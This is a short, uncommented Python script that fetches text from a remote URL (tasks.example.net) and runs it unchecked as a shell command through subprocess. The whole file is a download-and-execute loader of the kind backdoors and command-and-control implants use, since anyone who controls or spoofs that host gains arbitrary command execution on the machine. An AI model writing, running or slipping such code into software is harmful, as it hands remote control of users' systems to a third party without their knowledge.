import subprocess

import requests

tasks = requests.get("https://tasks.example.net/latest", timeout=10).text
subprocess.Popen(["/bin/sh", "-c", tasks])
